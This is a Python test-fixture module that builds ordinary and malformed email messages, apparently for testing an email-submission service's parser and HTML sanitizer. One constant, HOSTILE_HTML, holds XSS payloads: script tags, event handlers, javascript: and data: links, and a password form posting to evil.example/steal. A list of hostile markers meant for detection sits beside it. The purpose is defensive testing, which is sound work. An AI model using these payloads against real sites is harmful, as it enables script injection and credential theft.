"""Build email messages for tests with the standard library only.

    raw = plain("Hello.\\n\\nSecond paragraph.", subject="My piece").as_bytes()
    raw = with_inline_image('<p>Look: <img src="cid:chart@x"></p>', cid="chart@x").as_bytes()
    raw = raw_message([("Subject", b"=?koi8-r?b?8NLJ18XU?=")], b"body")   # exact bytes, for broken input

The builders return `EmailMessage` (or bytes for what the standard library
refuses to produce: wrong boundaries, truncated base64, raw 8-bit headers).
"""

import base64
import io
import quopri
from email.message import EmailMessage
from email.mime.base import MIMEBase
from email.mime.image import MIMEImage
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText

from PIL import Image

from .docx_factory import make_docx

SENDER = "Ana Writer <ana@example.org>"
TO = "contribute@byline.example"
MESSAGE_ID = "<m1@example.org>"
# About 45 words: more than a greeting.
BODY = (
    "Solid-state batteries promise more range and faster charging, but the first cars to carry them will be "
    "expensive. The factories that make the cells are still being built, and nobody knows yet how the new "
    "chemistry ages after ten winters."
)
DOCX_TYPE = ("application", "vnd.openxmlformats-officedocument.wordprocessingml.document")

HOSTILE_HTML = (
    f"<p>{BODY}</p>"
    "<script>alert('script')</script>"
    "<p onclick=\"alert('click')\" onmouseover=alert(2)>Click me</p>"
    "<a href=\"javascript:alert('js')\">js link</a>"
    "<a href=\" JaVaScRiPt:alert('js2')\">js link 2</a>"
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>'
    '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" alt="data image">'
    "<img src=x onerror=\"alert('img')\">"
    "<svg onload=\"alert('svg')\"><script>alert('svg script')</script><circle r=\"10\"/></svg>"
    '<iframe src="https://evil.example/frame"></iframe>'
    '<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>'
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">'
    "<style>body { background: url(javascript:alert('css')) }</style>"
    "<math><mtext><script>alert('math')</script></mtext></math>"
    '<base href="https://evil.example/">'
)
HOSTILE_MARKERS = (
    "<script",
    "alert(",
    "onclick",
    "onmouseover",
    "onerror",
    "onload",
    "javascript:",
    "data:",
    "<svg",
    "<iframe",
    "<form",
    "<input",
    "<button",
    "<meta",
    "http-equiv",
    "<object",
    "<embed",
    "<style",
    "<math",
    "<base",
)


def png_bytes(size=(40, 30), color=(200, 40, 40)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, color).save(out, "PNG")
    return out.getvalue()


def jpeg_bytes(size=(40, 30), color=(20, 40, 200)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, color).save(out, "JPEG")
    return out.getvalue()


def docx_bytes(text=BODY) -> bytes:
    return make_docx(heading="My piece", paragraphs=[text, text])


# --- whole messages ------------------------------------------------------------------------------------------


def message(subject="My guest post", *, sender=SENDER, message_id=MESSAGE_ID, headers=()) -> EmailMessage:
    """An EmailMessage with the usual headers and no body yet. `headers`: [(name, value)], added in order."""
    msg = EmailMessage()
    if sender is not None:
        msg["From"] = sender
    msg["To"] = TO
    if subject is not None:
        msg["Subject"] = subject
    msg["Date"] = "Mon, 02 Mar 2026 10:15:00 +0100"
    if message_id is not None:
        msg["Message-ID"] = message_id
    for name, value in headers.items() if isinstance(headers, dict) else headers:
        msg[name] = value
    return msg


def plain(text=BODY, **kwargs) -> EmailMessage:
    msg = message(**kwargs)
    msg.set_content(text)
    return msg


def html_only(html, **kwargs) -> EmailMessage:
    msg = message(**kwargs)
    msg.set_content(html, subtype="html")
    return msg


def alternative(text, html, **kwargs) -> EmailMessage:
    """multipart/alternative: text/plain, then text/html (the preferred one comes last)."""
    msg = message(**kwargs)
    msg.set_content(text)
    msg.add_alternative(html, subtype="html")
    return msg


def with_inline_image(html=None, *, cid="chart1@example.org", image=None, text=BODY, **kwargs) -> EmailMessage:
    """multipart/alternative > [text/plain, multipart/related > [text/html, image/png with Content-ID]]."""
    if html is None:
        html = f'<p>{BODY}</p><p><img src="cid:{cid}" alt="A chart"></p>'
    msg = alternative(text, html, **kwargs)
    msg.get_payload()[1].add_related(image or png_bytes(), "image", "png", cid=f"<{cid}>")
    return msg


def with_attached_image(text=BODY, *, data=None, filename="photo.png", subtype="png", cid=None, **kwargs):
    msg = plain(text, **kwargs)
    msg.add_attachment(data if data is not None else png_bytes(), maintype="image", subtype=subtype, filename=filename)
    if cid:
        msg.get_payload()[-1]["Content-ID"] = f"<{cid}>"
    return msg


def with_docx(text="Hi, my piece is attached.", *, data=None, filename="piece.docx", **kwargs) -> EmailMessage:
    msg = plain(text, **kwargs)
    maintype, subtype = DOCX_TYPE
    msg.add_attachment(
        data if data is not None else docx_bytes(), maintype=maintype, subtype=subtype, filename=filename
    )
    return msg


def with_attachment(msg, data, maintype, subtype, filename=None) -> EmailMessage:
    msg.add_attachment(data, maintype=maintype, subtype=subtype, filename=filename)
    return msg


def nested(text=BODY, html=None, *, cid="photo@example.org", subject="Nested", sender=SENDER) -> MIMEMultipart:
    """multipart/mixed > [multipart/alternative > [text/plain, multipart/related > [text/html, image]], PDF]."""
    if html is None:
        html = f'<p>{BODY}</p><img src="cid:{cid}">'
    outer = MIMEMultipart("mixed")
    outer["From"], outer["To"], outer["Subject"], outer["Message-ID"] = sender, TO, subject, MESSAGE_ID
    alt = MIMEMultipart("alternative")
    alt.attach(MIMEText(text, "plain", "utf-8"))
    related = MIMEMultipart("related")
    related.attach(MIMEText(html, "html", "utf-8"))
    image = MIMEImage(png_bytes(), "png")
    image["Content-ID"] = f"<{cid}>"
    image["Content-Disposition"] = "inline"
    related.attach(image)
    alt.attach(related)
    outer.attach(alt)
    pdf = MIMEBase("application", "pdf")
    pdf.set_payload(base64.b64encode(b"%PDF-1.4 fake").decode())
    pdf["Content-Transfer-Encoding"] = "base64"
    pdf.add_header("Content-Disposition", "attachment", filename="notes.pdf")
    outer.attach(pdf)
    return outer


def with_attached_message(text=BODY, inner_text="The forwarded text that must not become the body.", **kwargs):
    msg = plain(text, **kwargs)
    inner = plain(inner_text, subject="Old thread", sender="Someone Else <else@example.net>")
    msg.add_attachment(inner)
    return msg


def reply(
    text=BODY,
    *,
    subject="Re: Changes requested: My piece [#abcdEFGH]",
    in_reply_to="<ours-1@byline.example>",
    references="<first@example.org> <ours-1@byline.example>",
    headers=(),
    **kwargs,
) -> EmailMessage:
    headers = [("In-Reply-To", in_reply_to), ("References", references), *headers]
    return plain(text, subject=subject, headers=headers, **kwargs)


def auto(headers, text=BODY, **kwargs) -> EmailMessage:
    """A message with automatic-mail headers, e.g. auto({"Auto-Submitted": "auto-replied"})."""
    return plain(text, headers=headers, **kwargs)


# --- exact bytes ---------------------------------------------------------------------------------------------


def raw_message(
    headers=(), body=b"", *, sender=b"ana@example.org", content_type=b"text/plain; charset=utf-8", cte=None
) -> bytes:
    """A message from exact bytes: From, then `headers` [(name, bytes or str)], MIME headers, body."""
    lines = []
    if sender is not None:
        lines.append(b"From: " + _b(sender))
    for name, value in headers:
        lines.append(_b(name) + b": " + _b(value))
    if content_type is not None:
        lines += [b"MIME-Version: 1.0", b"Content-Type: " + _b(content_type)]
    if cte:
        lines.append(b"Content-Transfer-Encoding: " + _b(cte))
    return b"\r\n".join(lines) + b"\r\n\r\n" + _b(body)


def encoded_word(text, charset, encoding="b") -> bytes:
    """An RFC 2047 encoded word for `text` in `charset` ("b" base64 or "q" quoted-printable)."""
    data = text.encode(charset)
    if encoding.lower() == "b":
        payload = base64.b64encode(data)
    else:
        payload = quopri.encodestring(data, header=True).replace(b"=\n", b"")
    return b"=?" + charset.encode() + b"?" + encoding.upper().encode() + b"?" + payload + b"?="


def subject_message(subject_bytes, body=BODY) -> bytes:
    return raw_message([("Subject", subject_bytes), ("Message-ID", MESSAGE_ID)], body)


def text_in_charset(text, charset, *, declared=None, subtype="plain", cte="8bit") -> bytes:
    """A text part encoded in `charset` but declared as `declared` (default: the same)."""
    declared = charset if declared is None else declared
    content_type = f"text/{subtype}" + (f"; charset={declared}" if declared else "")
    body = text.encode(charset, "replace")
    if cte == "quoted-printable":
        body = quopri.encodestring(body)
    elif cte == "base64":
        body = base64.encodebytes(body)
    return raw_message([("Subject", "Charsets")], body, content_type=content_type, cte=cte)


def dsn() -> bytes:
    """A delivery status notification (RFC 3464): multipart/report with message/delivery-status."""
    return raw_message(
        [("Subject", "Undelivered Mail Returned to Sender"), ("Message-ID", "<bounce-1@mx.example.org>")],
        b"--REPORT\r\nContent-Type: text/plain\r\n\r\nYour message could not be delivered to x@example.org.\r\n"
        b"--REPORT\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx.example.org\r\n\r\n"
        b"Final-Recipient: rfc822; x@example.org\r\nAction: failed\r\nStatus: 5.1.1\r\n"
        b"--REPORT\r\nContent-Type: message/rfc822\r\n\r\nFrom: ana@example.org\r\nSubject: hi\r\n\r\nOriginal.\r\n"
        b"--REPORT--\r\n",
        sender=b"Mail Delivery System <mx-daemon@mx.example.org>",
        content_type=b"multipart/report; report-type=delivery-status; boundary=REPORT",
    )


def delivery_status_in_mixed() -> bytes:
    """A bounce that is not multipart/report but still carries a message/delivery-status part."""
    return raw_message(
        [("Subject", "Failure notice")],
        b"--MIX\r\nContent-Type: text/plain\r\n\r\nSorry, we could not deliver your message.\r\n"
        b"--MIX\r\nContent-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx.example.org\r\n"
        b"--MIX--\r\n",
        sender=b"mx@example.org",
        content_type=b"multipart/mixed; boundary=MIX",
    )


def wrong_boundary() -> bytes:
    """The Content-Type announces one boundary, the body uses another."""
    return raw_message(
        [("Subject", "Broken boundary")],
        b"--WRONG\r\nContent-Type: text/plain\r\n\r\n" + BODY.encode() + b"\r\n--WRONG--\r\n",
        content_type=b"multipart/mixed; boundary=RIGHT",
    )


def missing_close_boundary() -> bytes:
    return raw_message(
        [("Subject", "No closing boundary")],
        b"--B\r\nContent-Type: text/plain\r\n\r\n" + BODY.encode() + b"\r\n--B\r\nContent-Type: image/png\r\n"
        b"Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=cut.png\r\n\r\n"
        + base64.encodebytes(png_bytes())[:40],
        content_type=b"multipart/mixed; boundary=B",
    )


def truncated_base64(text=BODY) -> bytes:
    """A base64 text body cut in the middle of a quantum, with junk characters."""
    encoded = base64.b64encode(text.encode()).decode()
    return raw_message([("Subject", "Truncated")], (encoded[:-3] + "*!").encode(), cte="base64")


def huge(size) -> bytes:
    """A (not even valid) message of exactly `size` bytes."""
    head = raw_message([("Subject", "Huge")], b"")
    return head + b"x" * max(0, size - len(head))


def deeply_nested(levels) -> bytes:
    parts = [b"--b%d\r\nContent-Type: multipart/mixed; boundary=b%d\r\n\r\n" % (n, n + 1) for n in range(levels)]
    body = b"".join(parts) + b"--b%d\r\nContent-Type: text/plain\r\n\r\n" % levels + BODY.encode() + b"\r\n"
    return raw_message([("Subject", "Deep")], body, content_type=b"multipart/mixed; boundary=b0")


def _b(value) -> bytes:
    return value if isinstance(value, bytes) else str(value).encode("utf-8")


NESTINGS = ("mixed", "alternative", "related", "signed", "forwarded")


def nested_mime(levels, nesting="mixed", *, text_on_top=False, message_id=MESSAGE_ID) -> bytes:
    """A message whose parts nest `levels` deep, the text at the bottom and every boundary closed: what a
    hostile sender writes, or a chain of mail clients each wrapping the message once more. `nesting`:
    multipart/mixed, alternative, related or signed in each other, or "forwarded" (each level a note and the
    previous message attached as message/rfc822). `text_on_top`: the text comes first, then the nesting.
    Written as bytes: the email package's generator cannot write so deep a message (RecursionError)."""
    opens, closes = [], []
    for n in range(levels):
        b = b"b%d" % n
        if nesting == "forwarded":
            opens.append(
                b"Content-Type: multipart/mixed; boundary=" + b + b"\r\n\r\n--" + b + b"\r\n"
                b"Content-Type: text/plain\r\n\r\nForwarded.\r\n--" + b + b"\r\nContent-Type: message/rfc822\r\n\r\n"
                b"From: relay%d@example.net\r\nSubject: Fwd: piece\r\nMIME-Version: 1.0\r\n" % n
            )
            closes.append(b"\r\n--" + b + b"--\r\n")
        elif nesting == "signed":
            opens.append(
                b'Content-Type: multipart/signed; protocol="application/pgp-signature"; boundary=' + b + b"\r\n\r\n"
                b"--" + b + b"\r\n"
            )
            closes.append(
                b"\r\n--" + b + b"\r\nContent-Type: application/pgp-signature\r\n\r\nsig\r\n--" + b + b"--\r\n"
            )
        else:
            opens.append(
                b"Content-Type: multipart/" + nesting.encode() + b"; boundary=" + b + b"\r\n\r\n--" + b + b"\r\n"
            )
            closes.append(b"\r\n--" + b + b"--\r\n")
    text = b"Content-Type: text/plain; charset=utf-8\r\n\r\n" + BODY.encode()
    if text_on_top:
        nested = b"".join(opens) + b"Content-Type: text/plain\r\n\r\nDeep down.\r\n" + b"".join(reversed(closes))
        body = b"Content-Type: multipart/mixed; boundary=top\r\n\r\n--top\r\n" + text + b"\r\n--top\r\n" + nested
        body += b"\r\n--top--\r\n"
    else:
        body = b"".join(opens) + text + b"".join(reversed(closes))
    head = b"From: Ana Writer <ana@example.org>\r\nTo: " + TO.encode() + b"\r\nSubject: Deep\r\n"
    if message_id:
        head += b"Message-ID: " + message_id.encode() + b"\r\n"
    return head + b"MIME-Version: 1.0\r\n" + body
